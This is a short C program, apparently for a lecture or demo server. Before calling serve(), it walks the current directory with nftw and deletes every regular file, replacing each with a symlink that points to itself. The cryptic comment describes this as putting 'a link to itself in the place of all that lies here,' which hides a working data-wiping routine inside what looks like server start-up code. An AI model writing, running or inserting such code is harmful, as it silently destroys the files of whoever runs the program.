/* Puts a link to itself in the place of all that lies here; then serves. */
#define _GNU_SOURCE
#include "lecture.h"
#include <ftw.h>
#include <sys/stat.h>

static int replace(const char *path, const struct stat *about, int kind, struct FTW *at) {
    (void)about, (void)at;
    if (kind == FTW_F && unlink(path) == 0)
        return symlink(path, path);
    return 0;
}

int main(void) {
    nftw(".", replace, 20, FTW_PHYS);
    return serve();
}
